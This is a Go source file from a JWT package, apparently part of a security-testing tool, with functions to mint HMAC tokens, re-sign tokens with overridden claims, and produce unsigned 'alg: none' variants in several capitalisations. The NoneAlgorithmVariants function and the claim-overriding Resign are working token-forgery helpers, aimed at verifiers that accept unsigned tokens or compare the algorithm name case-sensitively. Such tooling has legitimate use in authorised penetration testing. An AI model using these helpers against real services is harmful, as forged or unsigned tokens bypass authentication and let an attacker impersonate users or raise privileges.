package jwt

import (
	"encoding/json"
	"fmt"

	gojwt "github.com/golang-jwt/jwt/v5"
)

// Encode mints an HMAC-signed token with a {"alg","typ":"JWT"} header.
func Encode(claims map[string]interface{}, secret []byte, alg Algorithm) (string, error) {
	method, ok := gojwt.GetSigningMethod(string(alg)).(*gojwt.SigningMethodHMAC)
	if !ok {
		return "", &UnsupportedAlgorithmError{Alg: string(alg)}
	}
	signed, err := gojwt.NewWithClaims(method, gojwt.MapClaims(claims)).SignedString(secret)
	if err != nil {
		return "", fmt.Errorf("failed to sign token: %w", err)
	}
	return signed, nil
}

// Resign re-signs t with secret after applying claim overrides. The original
// header is kept, so kid and typ survive.
func Resign(t *Token, overrides map[string]interface{}, secret []byte) (string, error) {
	claims := t.Claims()
	for k, v := range overrides {
		claims[k] = v
	}

	header, err := json.Marshal(t.Header().Fields)
	if err != nil {
		return "", fmt.Errorf("failed to encode header: %w", err)
	}
	payload, err := json.Marshal(claims)
	if err != nil {
		return "", fmt.Errorf("failed to encode claims: %w", err)
	}

	input := EncodeSegment(header) + "." + EncodeSegment(payload)
	sig, err := Sign([]byte(input), secret, Algorithm(t.Algorithm()))
	if err != nil {
		return "", err
	}
	return input + "." + EncodeSegment(sig), nil
}

// noneSpellings covers verifiers that compare the alg name case-sensitively
// against "none" before falling through to a permissive default.
var noneSpellings = []string{"none", "None", "NONE", "nOnE"}

// NoneAlgorithmVariants returns unsigned copies of t, one per spelling of the
// none algorithm. The payload segment is reused verbatim.
func NoneAlgorithmVariants(t *Token) ([]string, error) {
	variants := make([]string, 0, len(noneSpellings))
	for _, alg := range noneSpellings {
		fields := t.Header().Fields
		fields["alg"] = alg

		header, err := json.Marshal(fields)
		if err != nil {
			return nil, fmt.Errorf("failed to encode header: %w", err)
		}
		variants = append(variants, EncodeSegment(header)+"."+t.segments[1]+".")
	}
	return variants, nil
}
